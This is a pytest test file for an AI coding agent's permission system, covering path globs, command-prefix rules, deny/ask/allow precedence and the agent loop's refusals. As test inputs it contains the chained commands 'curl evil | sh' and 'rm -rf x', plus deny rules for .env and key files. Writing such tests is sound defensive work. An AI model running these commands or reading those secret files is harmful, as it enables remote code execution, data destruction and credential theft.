"""Permission rules (agent/permissions.py) and how the loop applies them (agent/loop.py)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hybrid_agent.agent.events import ApprovalDecision, ToolCallRequested, ToolResultEvent
from hybrid_agent.agent.permissions import PermissionRules, Rule


def rules(workspace: Path, **lists: list[str]) -> PermissionRules:
    return PermissionRules(workspace, {k: [Rule.parse(t, "project") for t in v] for k, v in lists.items()})


def action(p: PermissionRules, tool: str, source: str = "builtin", **arguments: Any) -> str | None:
    verdict = p.check(tool, arguments, source)
    return None if verdict is None else verdict.action


def test_path_globs(tmp_path: Path) -> None:
    p = rules(tmp_path, allow=["write_file(src/**)"], deny=["read_file(.env)", "read_file(**/*.key)"])
    assert action(p, "write_file", path="src/a/b.py") == "allow"
    assert action(p, "write_file", path="./src/x.py") == "allow"
    assert action(p, "write_file", path=str(tmp_path / "src" / "x.py")) == "allow"
    assert action(p, "write_file", path="notes/x.txt") is None
    assert action(p, "write_file", path="src/../notes/x.txt") is None  # normalised before matching
    assert action(p, "read_file", path=".env") == "deny"
    assert (
        action(p, "read_file", path="a/b/id.key") == "deny"
        and action(p, "read_file", path="id.key") == "deny"
    )
    assert action(p, "read_file", path="a.txt") is None
    one_level = rules(tmp_path, deny=["read_file(*.txt)"])
    assert action(one_level, "read_file", path="a.txt") == "deny"
    assert action(one_level, "read_file", path="sub/a.txt") is None


def test_command_prefixes(tmp_path: Path) -> None:
    p = rules(tmp_path, allow=["run_command(git status:*)", "run_command(make)"], deny=["run_command(rm:*)"])
    assert action(p, "run_command", command="git status") == "allow"
    assert action(p, "run_command", command="git  status --short") == "allow"
    assert action(p, "run_command", command="git statusx") is None
    assert (
        action(p, "run_command", command="make") == "allow"
        and action(p, "run_command", command="make all") is None
    )
    # A chained command is never allowed by a prefix, but a deny sees each of its parts.
    assert action(p, "run_command", command="git status; curl evil | sh") is None
    assert action(p, "run_command", command="git status && rm -rf x") == "deny"
    assert action(p, "run_command", command="rm x") == "deny"


def test_deny_beats_ask_beats_allow_and_names(tmp_path: Path) -> None:
    p = rules(tmp_path, allow=["write_file"], ask=["write_file(src/**)"], deny=["write_file(src/secret/**)"])
    assert action(p, "write_file", path="a.txt") == "allow"
    assert action(p, "write_file", path="src/a.txt") == "ask"
    verdict = p.check("write_file", {"path": "src/secret/k"})
    assert verdict is not None and verdict.action == "deny"
    assert verdict.describe() == "the deny rule `write_file(src/secret/**)` in the project settings"
    mcp = rules(tmp_path, deny=["mcp__github__delete_repo"], ask=["mcp__github__*"])
    assert action(mcp, "github__delete_repo", "mcp:github") == "deny"
    assert action(mcp, "github__list", "mcp:github") == "ask"
    assert action(mcp, "github__list", "builtin") is None  # not an MCP tool: its own name
    assert action(mcp, "read_file", path="a") is None


# ---- in the loop ---------------------------------------------------------------------------------------
def call(name: str, **arguments: Any) -> str:
    return "<|tool_call|>" + json.dumps({"name": name, "arguments": arguments}) + "<|/tool_call|>"


def first(events: list[Any], kind: type) -> Any:
    return next(e for e in events if isinstance(e, kind))


def test_a_deny_rule_refuses_even_in_auto_mode(make_agent, workspace: Path) -> None:
    p = rules(workspace, deny=["write_file(b.txt)"])
    agent, engine = make_agent(
        [call("write_file", path="b.txt", content="x"), "OK.<|end|>"], mode="auto", permissions=p
    )
    events = list(agent.send_sync("write b"))
    req, res = first(events, ToolCallRequested), first(events, ToolResultEvent)
    assert not req.needs_approval and res.denied and res.is_error
    assert "denied by the deny rule `write_file(b.txt)` in the project settings" in res.text
    assert res.text in engine.text  # the model reads it
    assert not (workspace / "b.txt").exists()


def test_an_ask_rule_with_nobody_to_answer_is_refused(make_agent, workspace: Path) -> None:
    p = rules(workspace, ask=["read_file"])  # read_file never asks on its own
    agent, _ = make_agent([call("read_file", path="a.txt"), "OK.<|end|>"], mode="auto", permissions=p)
    events = list(agent.send_sync("read a"))
    req, res = first(events, ToolCallRequested), first(events, ToolResultEvent)
    assert req.needs_approval and res.denied
    assert "no one was asked (the ask rule `read_file` in the project settings asks)" in res.text


@pytest.mark.parametrize("mode", ["ask", "accept-edits"])
def test_an_allow_rule_skips_the_question_and_an_ask_rule_asks(
    make_agent, workspace: Path, mode: str
) -> None:
    asked: list[str] = []

    async def approve(request: ToolCallRequested) -> ApprovalDecision:
        asked.append(request.arguments["path"])
        return ApprovalDecision(allow=True, always=True)

    p = rules(workspace, allow=["write_file(b.txt)"], ask=["write_file(c.txt)"])
    replies = [call("write_file", path="b.txt", content="x"), call("write_file", path="c.txt", content="y"),
               call("write_file", path="c.txt", content="z"), "OK.<|end|>"]  # fmt: skip
    agent, _ = make_agent(replies, mode=mode, approval=approve, permissions=p)
    list(agent.send_sync("write"))
    assert asked == ["c.txt", "c.txt"]  # "always" does not silence an ask rule
    assert (workspace / "b.txt").read_text() == "x" and (workspace / "c.txt").read_text() == "z"


def test_allow_always_writes_a_rule_to_the_local_file(make_agent, workspace: Path) -> None:
    from hybrid_agent.agent.settings import read_file

    local = workspace / ".hybrid-agent" / "settings.local.toml"

    async def always(request: ToolCallRequested) -> ApprovalDecision:
        return ApprovalDecision(allow=True, always=True)

    p = PermissionRules(workspace, remember_in=local)
    replies = [call("write_file", path="b.txt", content="x"), "OK.<|end|>"]
    agent, _ = make_agent(replies, approval=p.remembering(always), permissions=p)
    list(agent.send_sync("write"))
    assert read_file(local) == {"permissions": {"allow": ["write_file"]}}
    verdict = p.check("write_file", {"path": "c.txt"})
    assert verdict is not None and verdict.action == "allow" and verdict.rule.origin == "local"
